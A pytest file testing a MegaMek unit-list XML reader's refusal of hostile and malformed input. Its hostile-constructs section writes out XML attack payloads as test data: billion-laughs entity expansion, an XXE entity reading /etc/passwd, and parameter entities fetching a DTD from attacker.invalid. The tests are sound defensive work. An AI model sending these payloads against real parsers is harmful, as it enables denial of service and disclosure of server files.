"""Hostile and broken input is refused cleanly; real-world quirks are tolerated and reported.

Every failure must be a :class:`MulReadError` carrying a line (and a column when the parser knows
it), a hint a person can act on, and the right ``refused`` flag and exit code.
"""

from __future__ import annotations

import random
from pathlib import Path

import pytest

from mekref.adapters.megamek.errors import (
    EXIT_REFUSED_FILE,
    EXIT_UNREADABLE_FILE,
    MulReadError,
)
from mekref.adapters.megamek.mul_model import MulFile
from mekref.adapters.megamek.mul_reader import read_mul_bytes
from mekref.adapters.megamek.mul_writer import write_mul

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "megamek"
ALL_MULS = sorted(FIXTURES.glob("*.mul"))
ACE = FIXTURES / "mekhq-fixedmuls-aceARC2R.mul"
CLAN = FIXTURES / "Clan Boxset RS all.mul"


def refuse(data: bytes, **kw: int) -> MulReadError:
    with pytest.raises(MulReadError) as info:
        read_mul_bytes(data, "hostile.mul", **kw)
    err = info.value
    assert err.position.path == "hostile.mul"
    assert err.hint.strip()
    # One readable line, never a traceback or a multi-line dump.
    assert "\n" not in err.one_line()
    assert str(err) == err.one_line()
    return err


def assert_refused(err: MulReadError) -> None:
    assert err.refused is True
    assert err.exit_code == EXIT_REFUSED_FILE


def assert_broken(err: MulReadError) -> None:
    assert err.refused is False
    assert err.exit_code == EXIT_UNREADABLE_FILE
    assert err.position.line is not None


# --- Hostile constructs: refused ---------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE unit [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<unit version="0.51.01"><entity chassis="&lol9;" model="" type="Biped"/></unit>
"""

XXE = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE unit [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<unit version="0.51.01">
<entity chassis="&xxe;" model="X" type="Biped"/>
</unit>
"""

PARAMETER_ENTITIES = b"""<?xml version="1.0"?>
<!DOCTYPE unit [
  <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd">
  %remote;
  <!ENTITY % file SYSTEM "file:///etc/hostname">
]>
<unit version="0.51.01"/>
"""


@pytest.mark.parametrize(
    ("data", "line"),
    [
        (BILLION_LAUGHS, 2),
        (XXE, 2),
        (PARAMETER_ENTITIES, 2),
        (b'<?xml version="1.0"?>\n\n<!DOCTYPE unit>\n<unit/>', 3),
        (b'<?xml version="1.0"?>\n<!doctype unit SYSTEM "http://x.invalid/u.dtd">\n<unit/>', 2),
        # A declaration smuggled after the root start is refused too, not parsed around.
        (b'<unit version="0.51.01">\n<!ENTITY x "y">\n</unit>', 2),
    ],
    ids=[
        "billion-laughs",
        "xxe-file",
        "parameter-entities",
        "plain-doctype",
        "doctype-lower",
        "entity-decl",
    ],
)
def test_dtd_and_entities_are_refused(data: bytes, line: int) -> None:
    err = refuse(data)
    assert_refused(err)
    assert err.position.line == line
    # The column of the "<!" that starts the declaration.
    line_text = data.split(b"\n")[line - 1]
    assert err.position.column == line_text.index(b"<!") + 1
    assert "DTD" in err.problem or "entit" in err.problem
    assert "MegaMek" in err.hint


def test_xxe_never_reads_the_file() -> None:
    err = refuse(XXE)
    passwd = Path("/etc/passwd")
    if passwd.exists():
        first_line = passwd.read_text(errors="replace").splitlines()[0]
        assert first_line not in str(err)


def test_over_the_size_cap_is_refused_before_parsing() -> None:
    data = ACE.read_bytes()
    err = refuse(data, max_bytes=len(data) - 1)
    assert_refused(err)
    assert f"{len(data):,}" in err.problem
    assert "limit" in err.problem
    # Exactly at the cap is fine.
    assert len(read_mul_bytes(data, "ok.mul", max_bytes=len(data)).entities) == 1


def test_a_huge_hostile_file_is_refused_by_size() -> None:
    data = b"<unit>" + b"<entity chassis='a' model='b' type='Biped'/>" * 5_000 + b"</unit>"
    assert_refused(refuse(data, max_bytes=64 * 1024))


# --- Broken files: a clean error -------------------------------------------------------------


@pytest.mark.parametrize("data", [b"", b"   ", b"\r\n\r\n\t", b"\xef\xbb\xbf"], ids=repr)
def test_empty_file(data: bytes) -> None:
    err = refuse(data)
    assert_broken(err)
    assert (err.position.line, err.position.column) == (1, 1)
    assert "empty" in err.problem


@pytest.mark.parametrize("seed", range(12))
def test_binary_junk(seed: int) -> None:
    rng = random.Random(seed)
    data = bytes(rng.randrange(256) for _ in range(rng.randrange(1, 4096)))
    if not data.strip():
        data = b"\x00" + data
    assert_broken(refuse(data))


def test_nul_bytes_and_png_header() -> None:
    assert_broken(refuse(b"\x00" * 100))
    assert_broken(refuse(b"\x89PNG\r\n\x1a\n" + bytes(range(256))))
    assert_broken(refuse(b"hello, this is not xml"))


def _cut_points(data: bytes) -> list[int]:
    """Offsets before the end of the closing root tag: every cut there leaves a broken file."""
    close = max(data.rfind(b"</unit>"), data.rfind(b"</record>"))
    end = data.index(b">", close) + 1
    points = set(range(0, min(end, 80)))  # the declaration and the root start tag
    points |= set(range(max(0, end - 80), end))  # the closing tags
    points |= set(range(0, end, 41))  # and all along the body
    return sorted(points)


@pytest.mark.parametrize("path", ALL_MULS, ids=lambda p: p.name)
def test_truncated_real_files_always_raise(path: Path) -> None:
    data = path.read_bytes()
    full = read_mul_bytes(data, path.name)
    cuts = _cut_points(data)
    assert len(cuts) > 100
    for cut in cuts:
        try:
            shorter: MulFile | None = read_mul_bytes(data[:cut], path.name)
        except MulReadError as err:
            shorter = None
            assert err.exit_code == EXIT_UNREADABLE_FILE
            assert err.position.line is not None
            assert err.hint.strip()
        # Never a shorter list: a half-written file is not a smaller force.
        assert shorter is None, f"{path.name} cut at byte {cut} read as {len(shorter.entities)}"
    assert full.entities  # the whole file still reads


def test_truncation_message_names_the_place_and_what_to_do() -> None:
    data = (FIXTURES / "clusterstrike-batchall-record.mul").read_bytes()
    cut = data.index(b"</salvage>")
    err = refuse(data[:cut])
    assert_broken(err)
    assert err.position.line == data[:cut].count(b"\n") + 1
    assert err.position.column is not None
    assert "truncated" in err.hint or "half-written" in err.hint


def test_only_trailing_whitespace_removed_is_still_complete() -> None:
    data = ACE.read_bytes().rstrip()
    assert len(read_mul_bytes(data, "ace.mul").entities) == 1


def test_non_mul_root() -> None:
    err = refuse(b'<?xml version="1.0"?>\n<html>\n<body/>\n</html>\n')
    assert_broken(err)
    assert err.position.line == 2
    assert "<html>" in err.problem
    assert "not a MegaMek unit list" in err.hint


def _ace_with(old: bytes, new: bytes) -> bytes:
    data = ACE.read_bytes()
    assert data.count(old) >= 1, old
    return data.replace(old, new, 1)


@pytest.mark.parametrize(
    ("old", "new", "what"),
    [
        (b'gunnery="2"', b'gunnery="two"', "gunnery"),
        (b'deployment="0"', b'deployment="0.5"', "deployment"),
        (b'<Game id="2"/>', b'<Game id="x2"/>', "id"),
        (b'shots="6"', b'shots="lots"', "shots"),
        (b'<slot index="6"', b'<slot index="sixth"', "index"),
        (b'<location index="2">', b'<location index="RT">', "index"),
        (b'<location index="2">', b'<location index="2"><armor points="many"/>', "points"),
        (b'<location index="2">', b'<location index="2"><armor points="1" type="Side"/>', "type"),
        (b'ejected="false"', b'ejected="false" hits="3.5"', "hits"),
    ],
)
def test_bad_values_name_the_attribute_and_line(old: bytes, new: bytes, what: str) -> None:
    data = _ace_with(old, new)
    err = refuse(data)
    assert_broken(err)
    assert what in err.problem
    assert err.position.line == data[: data.index(new)].count(b"\n") + 1


def test_missing_chassis() -> None:
    data = _ace_with(b'chassis="Archer" ', b"")
    err = refuse(data)
    assert_broken(err)
    assert err.position.line == 5
    assert "chassis" in err.problem
    assert "MegaMek always writes it" in err.hint


def test_missing_slot_type() -> None:
    data = _ace_with(b' type="IS Ammo LRM-20" shots="6"/>', b' shots="6"/>')
    err = refuse(data)
    assert "type" in err.problem and err.position.line == 9  # the first <slot> line


def test_mismatched_tags_give_line_and_column() -> None:
    data = _ace_with(b"</location>", b"</locaton>")
    err = refuse(data)
    assert_broken(err)
    assert err.position.line == data[: data.index(b"</locaton>")].count(b"\n") + 1
    assert err.position.column is not None


# --- Real-world quirks: tolerated and reported -------------------------------------------------


def test_unescaped_ampersand_in_a_real_name() -> None:
    data = _ace_with(b'name="Graciana Oliwczyk"', b'name="Graciana & Sons Oliwczyk"')
    mul = read_mul_bytes(data, "amp.mul")
    assert mul.entities[0].members[0].name == "Graciana & Sons Oliwczyk"
    assert any("&" in n.message for n in mul.notices)
    assert mul.notices[0].line == 6
    # Everything else is as in the untouched file.
    plain = read_mul_bytes(ACE.read_bytes(), "ace.mul")
    assert mul.entities[0].crew is not None and plain.entities[0].crew is not None
    assert mul.entities[0].locations == plain.entities[0].locations
    # The writer escapes it, so our own output needs no tolerance.
    again = read_mul_bytes(write_mul(mul).encode("utf-8"), "again.mul")
    assert again == mul and again.notices == ()


def test_ampersand_in_chassis_and_kill_of_a_record() -> None:
    data = (FIXTURES / "clusterstrike-batchall-record.mul").read_bytes()
    data = data.replace(b'chassis="Avatar"', b'chassis="Avatar & Co"')
    data = data.replace(b'killed="Penetrator PTR-6M', b'killed="Penetrator & PTR-6M')
    mul = read_mul_bytes(data, "amp.mul")
    assert any(e.chassis == "Avatar & Co" for e in mul.entities)
    assert any(k.killed.startswith("Penetrator & PTR-6M") for k in mul.kills)
    assert any("2 unescaped '&'" in n.message for n in mul.notices)


def test_real_escapes_are_not_double_escaped() -> None:
    mul = read_mul_bytes((FIXTURES / "clusterstrike-batchall-record.mul").read_bytes(), "c.mul")
    names = [m.name for e in mul.entities for m in e.members]
    assert 'Acolyte Epsilon Hayden "Comfort" Megson' in names
    assert not any("&quot;" in n or "&amp;" in n for n in names)


@pytest.mark.parametrize("path", ALL_MULS, ids=lambda p: p.name)
def test_line_ending_mixes_read_the_same(path: Path) -> None:
    data = path.read_bytes()
    expected = read_mul_bytes(data, path.name)
    lf = data.replace(b"\r\n", b"\n")
    crlf = lf.replace(b"\n", b"\r\n")
    lines = lf.split(b"\n")
    mixed = b"".join(line + (b"\r\n" if i % 2 else b"\n") for i, line in enumerate(lines))
    for variant in (lf, crlf, mixed):
        assert read_mul_bytes(variant, path.name) == expected


def test_windows_1252_copy_with_non_ascii_names() -> None:
    data = CLAN.read_bytes()
    cp1252 = data.decode("utf-8").encode("cp1252")
    assert cp1252 != data  # the file does have non-ASCII names
    mul = read_mul_bytes(cp1252, "clan-1252.mul")
    assert mul == read_mul_bytes(data, "clan.mul")
    assert any(m.name == "Larraya Muñóz" for e in mul.entities for m in e.members)
    (notice,) = mul.notices
    assert "Windows-1252" in notice.message
    # The notice points at the first byte that is not UTF-8: the line with "Muñóz".
    assert notice.line == cp1252[: cp1252.index("Muñóz".encode("cp1252"))].count(b"\n") + 1


def test_utf8_bom() -> None:
    data = CLAN.read_bytes()
    mul = read_mul_bytes(b"\xef\xbb\xbf" + data, "bom.mul")
    assert mul == read_mul_bytes(data, "clan.mul")
    assert mul.notices == ()


def test_old_file_without_declaration_or_version() -> None:
    mul = read_mul_bytes(b'<unit>\n<entity chassis="Wasp" model="WSP-1A" type="Biped"/>\n</unit>')
    assert mul.version is None
    assert [e.display_name for e in mul.entities] == ["Wasp WSP-1A"]


def test_unknown_element_and_attribute_are_kept_reported_and_written_back() -> None:
    data = _ace_with(
        b'<Game id="2"/>',
        b'<Game id="2"/>\n\t\t\t<futureThing level="3"><part name="x"/></futureThing>',
    )
    data = data.replace(b'model="ARC-2R"', b'model="ARC-2R" futureAttr="yes"', 1)
    data = data.replace(b'shots="6"/>', b'shots="6" futureSlot="1"/>', 1)
    data = data.replace(
        b'<location index="3"> Left Torso\n',
        b'<location index="3"> Left Torso\n\t\t\t\t<futureLoc a="b"/>\n',
        1,
    )
    mul = read_mul_bytes(data, "future.mul")
    (archer,) = mul.entities
    assert archer.preserved == ('<futureThing level="3"><part name="x"/></futureThing>',)
    assert ("futureAttr", "yes") in archer.extra
    rt, lt = archer.locations
    assert ("futureSlot", "1") in rt.slots[0].extra
    assert lt.unknown == ('<futureLoc a="b"/>',)
    messages = " ".join(n.message for n in mul.notices)
    assert "futureThing" in messages
    assert "futureAttr" in messages
    assert "futureLoc" in messages
    text = write_mul(mul)
    assert '<futureThing level="3"><part name="x"/></futureThing>' in text
    assert 'futureAttr="yes"' in text
    assert 'futureSlot="1"' in text
    assert '<futureLoc a="b"/>' in text
    assert read_mul_bytes(text.encode("utf-8"), "again.mul") == mul


def test_unknown_attribute_repeated_on_every_unit_is_reported_once() -> None:
    data = CLAN.read_bytes().replace(b'type="Biped"', b'type="Biped" newThing="1"')
    mul = read_mul_bytes(data, "clan.mul")
    assert all(("newThing", "1") in e.extra for e in mul.entities)
    assert [n.message for n in mul.notices] == [
        "unknown attribute newThing= on <entity> kept as-is"
    ]


def test_unknown_crew_member_attribute_is_kept() -> None:
    data = b"""<unit version="0.51.01">
<entity chassis="Ares" model="ARS-V1" type="Tripod">
<crew crewType="tripod" size="3" ejected="false" implants="x">
<crewMember slot="0" name="A" gunnery="4" piloting="5" mood="calm"/>
<crewMember slot="1" name="B" gunnery="3" piloting="4" portraitCat="Male/"/>
</crew>
</entity>
</unit>"""
    mul = read_mul_bytes(data)
    crew = mul.entities[0].crew
    assert crew is not None and crew.crew_type == "tripod" and crew.size == 3
    assert ("implants", "x") in crew.extra
    a, b = crew.members
    assert (a.slot, a.name, a.extra) == (0, "A", (("mood", "calm"),))
    assert (b.slot, b.extra) == (1, (("portraitCat", "Male/"),))
    assert read_mul_bytes(write_mul(mul).encode()) == mul


# --- Shapes no MegaMek file has: refused before any Python walks the tree ---------------------

ENTITY_OPEN = b'<unit version="0.51.01"><entity chassis="Atlas" model="AS7-D" type="Biped"'


def test_too_many_attributes_on_one_element_are_refused() -> None:
    # 2,000 attributes once took ~10 ms and 16,000 most of a second (quadratic in lxml's
    # items()); a limit bounds the cost per element.
    attrs = b" ".join(b'a%d="x"' % i for i in range(2_000))
    err = refuse(ENTITY_OPEN + b" " + attrs + b"/></unit>")
    assert_refused(err)
    assert "<entity> has 2,003 attributes, over the 64 limit" in err.problem
    assert err.position.line == 1


def test_too_many_elements_are_refused() -> None:
    from mekref.adapters.megamek.xml_safety import ReadLimits

    body = ENTITY_OPEN + b">" + b"<x/>" * 1_000 + b"</entity></unit>"
    with pytest.raises(MulReadError) as info:
        read_mul_bytes(body, "hostile.mul", limits=ReadLimits(max_elements=500))
    assert_refused(info.value)
    assert "1,002 elements, over the 500 limit" in info.value.problem
    # The default limit leaves a real-sized file alone (only notices for the unknown tags).
    assert len(read_mul_bytes(body, "fine.mul").entities) == 1


def test_deep_nesting_is_refused() -> None:
    body = ENTITY_OPEN + b">" + b"<x>" * 40 + b"</x>" * 40 + b"</entity></unit>"
    err = refuse(body)
    assert_refused(err)
    assert "nest deeper than 32 levels" in err.problem


@pytest.mark.parametrize(
    "body",
    [
        ENTITY_OPEN + b'><location index="0">' + b"y" * 70_000 + b"</location></entity></unit>",
        b'<unit><entity chassis="' + b"y" * 70_000 + b'" model="" type="Biped"/></unit>',
    ],
    ids=["text", "attribute"],
)
def test_huge_text_is_refused(body: bytes) -> None:
    err = refuse(body)
    assert_refused(err)
    assert "70,000 characters, over the 65,536 limit" in err.problem
